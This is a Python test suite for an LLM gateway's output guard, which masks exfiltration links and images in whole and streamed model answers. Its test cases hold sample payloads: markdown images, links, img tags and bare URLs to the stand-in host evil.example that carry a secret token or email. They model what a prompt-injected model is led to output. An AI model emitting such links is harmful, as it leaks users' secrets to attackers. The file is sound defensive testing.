"""Exfiltration links and images are neutralised on output, whole and streamed (issue 18 point 3)."""

from __future__ import annotations

import asyncio
import random

import pytest

from llmops_ray.common.gateway_hooks import RequestContext
from llmops_ray.safety.config import OutputRailsConfig, RailsConfig
from llmops_ray.safety.hook import RailsHook
from llmops_ray.safety.links import carries_data, host_allowed, neutralize_links
from llmops_ray.safety.output_rail import OutputStreamGuard, check_output
from llmops_ray.safety.rails import Rails

from tests.unit.test_safety_growth import _assert_linear

ALLOWED = ["acme.com"]
CFG = OutputRailsConfig(allowed_link_hosts=ALLOWED)
SECRET = "c2VjcmV0LXRva2VuLTQyNDI0Mg"  # what an injected instruction asks the model to smuggle out

# (answer, substrings that must be gone, substrings that must stay)
CASES = [
    (f"Done. ![img](https://evil.example/pixel.png?d={SECRET})", [SECRET, "evil.example/pixel"], ["Done.", "[image removed: evil.example]"]),
    ("Logo: ![acme](https://cdn.acme.com/logo.png)", [], ["![acme](https://cdn.acme.com/logo.png)"]),
    (f"![a](https://cdn.acme.com/t.png?u={SECRET})", [SECRET], ["[image removed: cdn.acme.com]"]),
    ("See [the guide](https://evil.example/guide) now.", ["https://evil.example"], ["the guide [link removed: evil.example]"]),
    ("See [the guide](https://docs.acme.com/guide?lang=en).", [], ["[the guide](https://docs.acme.com/guide?lang=en)"]),
    (f"[login](https://docs.acme.com/x?session={SECRET})", [SECRET], ["login [link removed: docs.acme.com]"]),
    ("Relative [page](/docs/install.md) stays.", [], ["[page](/docs/install.md)"]),
    (f'<img src="https://evil.example/a.gif?q={SECRET}" width=1>', [SECRET], ["[image removed: evil.example]"]),
    (f"<https://evil.example/?q={SECRET}>", [SECRET], ["[link removed: evil.example]"]),
    (f"[1]: https://evil.example/ref?x={SECRET}\n", [SECRET], ["[1]: [link removed: evil.example]"]),
    (f"Open https://evil.example/collect?data={SECRET} please", [SECRET], ["Open [link removed: evil.example] please"]),
    ("Read https://python.org/downloads/ for installers.", [], ["https://python.org/downloads/"]),
    (f"请点击https://evil.example/c?token={SECRET}查看", [SECRET], ["请点击[link removed: evil.example]查看"]),
    ("![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB)", ["base64"], ["[image removed: data]"]),
    ("[run](javascript:alert(1))", ["javascript:alert"], []),
    ("Email leak: ![x](https://evil.example/?e=bob@example.com)", ["bob@", "[EMAIL]"], ["[image removed: evil.example]"]),
]


def _streamed(text: str, cfg: OutputRailsConfig, rng: random.Random) -> tuple[str, OutputStreamGuard]:
    guard = OutputStreamGuard(cfg)
    out, i = [], 0
    while i < len(text):
        k = rng.randint(1, 7)
        out.append(guard.feed(text[i : i + k]))
        i += k
    out.append(guard.finish())
    return "".join(out), guard


@pytest.mark.parametrize("answer,gone,kept", CASES)
def test_whole_answer(answer, gone, kept):
    out, decisions = check_output(answer, CFG)
    for g in gone:
        assert g not in out, out
    for k in kept:
        assert k in out, out
    links = next(d for d in decisions if d.name == "output.links")
    assert links.action == ("mask" if gone else "allow")


@pytest.mark.parametrize("answer,gone,kept", CASES)
def test_streamed_equals_whole_for_any_chunking(answer, gone, kept):
    whole, _ = check_output(answer, CFG)
    rng = random.Random(len(answer))
    for _ in range(60):
        text = f"Hello there. {answer} Thanks!"
        out, _ = _streamed(text, CFG, rng)
        assert out == check_output(text, CFG)[0]
        assert whole in out


@pytest.mark.parametrize("template", [
    "pre ![a](https://evil.example/p?d={data}) post",
    "pre [a](https://evil.example/p?d={data}) post",
    "pre https://evil.example/p?d={data} post",
    "pre <img src='https://evil.example/p?d={data}'> post",
    "前文![a](https://evil.example/p?d={data})后文",
])
def test_stream_url_longer_than_buffer_is_dropped_to_its_end(template):
    data = "QUJD" * 600  # 2400 characters: far past max_buffer_chars (512)
    text = template.format(data=data)
    for seed in range(5):
        out, guard = _streamed(text, CFG, random.Random(seed))
        assert "QUJDQUJD" not in out and "evil.example/p" not in out, out
        assert out.endswith(("post", "后文")) and ("pre" in out or "前文" in out)
        assert next(d for d in guard.decisions() if d.name == "output.links").action == "mask"
    whole, _ = check_output(text, CFG)
    assert "QUJDQUJD" not in whole


def test_flag_action_and_disabled():
    answer = f"![x](https://evil.example/?d={SECRET})"
    out, decisions = check_output(answer, CFG.model_copy(update={"link_action": "flag"}))
    assert out == answer and next(d for d in decisions if d.name == "output.links").action == "flag"
    out, decisions = check_output(answer, CFG.model_copy(update={"links": False}))
    assert out == answer and not any(d.name == "output.links" for d in decisions)


def test_host_allow_list_and_data_detection():
    assert host_allowed("docs.acme.com", ["acme.com"]) and host_allowed("acme.com", [".acme.com"])
    assert not host_allowed("acme.com.evil.example", ["acme.com"]) and not host_allowed("notacme.com", ["acme.com"])
    assert host_allowed(None, [])  # relative
    assert carries_data(f"https://x.io/?q={SECRET}") and carries_data("https://x.io/?email=a@b.co")
    assert carries_data("https://x.io/" + "a" * 60)
    assert not carries_data("https://x.io/guide?lang=en&page=2") and not carries_data("https://x.io/docs/install")
    assert neutralize_links("no links here [1] (see above)", []) == ("no links here [1] (see above)", [])


def test_rails_config_field_reaches_the_guard():
    rails = Rails(RailsConfig.model_validate({"output": {"allowed_link_hosts": ["evil.example"]}}))
    text = "![x](https://evil.example/logo.png)"
    assert rails.check_output(text)[0] == text
    assert "[image removed" in Rails().check_output(text)[0]


def _ctx(route: str, body: dict) -> RequestContext:
    ctx = RequestContext(route=route, body=body, headers={})
    ctx.requested_model = ctx.model = body.get("model")
    return ctx


def test_hook_neutralises_streamed_and_whole_answers():
    hook = RailsHook(config={"output": {"allowed_link_hosts": ["acme.com"]}}, audit_blocked=False)
    answer = f"Here: ![p](https://evil.example/p.png?d={SECRET}) and [docs](https://docs.acme.com/a)."
    ctx = _ctx("chat", {"model": "m", "messages": [{"role": "user", "content": "hi"}]})
    asyncio.run(hook.before_request(ctx))
    response = {"choices": [{"index": 0, "message": {"role": "assistant", "content": answer}, "finish_reason": "stop"}]}
    text = hook.on_response(ctx, response)["choices"][0]["message"]["content"]
    assert SECRET not in text and "[docs](https://docs.acme.com/a)" in text
    assert any(r["rail"] == "output.links" and r["action"] == "mask" for r in ctx.extra["rails"])

    ctx = _ctx("chat", {"model": "m", "messages": [{"role": "user", "content": "hi"}]})
    asyncio.run(hook.before_request(ctx))
    sent = []
    pieces = [answer[i : i + 3] for i in range(0, len(answer), 3)]
    for j, piece in enumerate(pieces):
        last = j == len(pieces) - 1
        chunk = {"id": "c", "object": "chat.completion.chunk", "model": "m",
                 "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": "stop" if last else None}]}
        sent.append(hook.on_chunk(ctx, chunk)["choices"][0]["delta"]["content"])
    for extra in hook.end_stream(ctx):
        sent.append(extra["choices"][0]["delta"]["content"])
    assert "".join(sent) == text


LINK_INPUTS = {
    "many open brackets": lambda n: "[" * n,
    "unclosed labels": lambda n: ("[abc " * (n // 5 + 1))[:n],
    "many bang-brackets": lambda n: ("![a](" * (n // 5 + 1))[:n],
    "endless url": lambda n: ("x ![a](https://e.io/?d=" + "A" * n)[:n],
    "many images": lambda n: ("![a](https://e.io/p?d=QUJDREVGR0hJSktMTU5PUFFS) " * (n // 46 + 1))[:n],
    # Distinct URLs: identical ones would hit urllib's parse cache and time the cache, not the scan.
    "many bare urls": lambda n: "".join(f"https://e{i}.io/?q=abcdefghijklmnopqrstuvwxyz{i} " for i in range(n // 30 + 1))[:n],
    "scheme runs": lambda n: ("://" * (n // 3 + 1))[:n],
    "angle runs": lambda n: ("<img " * (n // 5 + 1))[:n],
}


@pytest.mark.parametrize("name", list(LINK_INPUTS))
def test_link_neutralisation_is_linear(name):
    _assert_linear(lambda t: neutralize_links(t, ALLOWED), LINK_INPUTS[name])
    rails = Rails()
    _assert_linear(rails.check_output, LINK_INPUTS[name])


@pytest.mark.parametrize("name", list(LINK_INPUTS))
def test_link_stream_is_linear(name):
    rails = Rails()

    def run(text: str) -> None:
        guard = rails.output_stream()
        for i in range(0, len(text), 4):
            guard.feed(text[i : i + 4])
        guard.finish()

    _assert_linear(run, LINK_INPUTS[name], small=1_500)
